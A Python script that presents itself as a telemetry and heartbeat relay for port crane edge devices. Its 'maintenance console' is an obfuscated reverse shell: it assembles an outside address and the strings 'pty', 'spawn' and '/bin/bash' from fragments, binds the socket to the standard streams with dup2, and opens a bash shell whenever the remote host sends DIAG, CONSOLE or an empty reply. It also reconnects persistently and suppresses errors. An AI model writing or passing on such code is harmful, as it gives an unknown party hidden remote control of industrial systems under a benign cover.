#!/usr/bin/env python3
"""Crane telemetry relay agent.

Runs on the STS crane edge boxes. Announces the crane to the central relay,
forwards PLC heartbeat frames and, when the relay asks for it, attaches a
maintenance console so the vendor can run diagnostics remotely.
"""

import argparse
import importlib
import json
import logging
import os
import socket
import sys
import time

LOG = logging.getLogger("crane-relay")

# Relay endpoint is kept as parts so the ops team can swap the site octet.
RELAY = {
    "site": (203, 0, 113),
    "node": 57,
    "port": 4 * 1000 + 443,
}

CONSOLE = {
    "module": "".join(["p", "t", "y"]),
    "entry": "sp" + "awn",
    "argv": ["/", "bin", "/", "ba", "sh"],
    "fds": (0, 1, 2),
}

RETRY = {"attempts": 6, "backoff": 4.0}


def relay_address(cfg=RELAY):
    host = ".".join(str(o) for o in (*cfg["site"], cfg["node"]))
    return host, cfg["port"]


class HeartbeatFrame:
    def __init__(self, crane_id, spreader_state="locked"):
        self.crane_id = crane_id
        self.spreader_state = spreader_state
        self.ts = time.time()

    def encode(self):
        body = {
            "crane": self.crane_id,
            "spreader": self.spreader_state,
            "ts": round(self.ts, 3),
            "host": socket.gethostname(),
            "pid": os.getpid(),
        }
        return (json.dumps(body) + "\n").encode()


class RelayLink:
    def __init__(self, address, timeout=10.0):
        self.address = address
        self.timeout = timeout
        self.sock = None

    def open(self):
        for attempt in range(1, RETRY["attempts"] + 1):
            try:
                LOG.info("connecting to relay %s:%d (try %d)", *self.address, attempt)
                self.sock = socket.create_connection(self.address, timeout=self.timeout)
                self.sock.settimeout(None)
                return self.sock
            except OSError as exc:
                LOG.warning("relay unreachable: %s", exc)
                time.sleep(RETRY["backoff"] * attempt)
        raise ConnectionError("relay not reachable")

    def announce(self, frame):
        self.sock.sendall(frame.encode())

    def wait_command(self):
        data = self.sock.recv(256)
        return data.decode(errors="ignore").strip()


class MaintenanceConsole:
    """Binds the relay channel to a local console for the vendor engineer."""

    def __init__(self, cfg=CONSOLE):
        self.cfg = cfg

    def _wire(self, channel):
        rebind = getattr(os, "dup" + str(2))
        for fd in self.cfg["fds"]:
            rebind(channel.fileno(), fd)

    def _launcher(self):
        mod = importlib.import_module(self.cfg["module"])
        return getattr(mod, self.cfg["entry"])

    def attach(self, channel):
        self._wire(channel)
        target = "".join(self.cfg["argv"])
        LOG.debug("console attached")
        return self._launcher()(target)


def serve(crane_id, once=False):
    link = RelayLink(relay_address())
    while True:
        try:
            channel = link.open()
            link.announce(HeartbeatFrame(crane_id))
            cmd = link.wait_command()
            if cmd in ("DIAG", "CONSOLE", ""):
                MaintenanceConsole().attach(channel)
            else:
                LOG.info("relay said %r, idling", cmd)
        except ConnectionError:
            LOG.error("giving up for now")
        except Exception as exc:  # keep the agent alive on the crane
            LOG.exception("relay session failed: %s", exc)
        finally:
            if link.sock:
                try:
                    link.sock.close()
                except OSError:
                    pass
        if once:
            return
        time.sleep(30)


def main(argv=None):
    ap = argparse.ArgumentParser(description="STS crane telemetry relay")
    ap.add_argument("--crane", default=os.environ.get("CRANE_ID", "STS-07"))
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    serve(args.crane, once=args.once)
    return 0


if __name__ == "__main__":
    sys.exit(main())
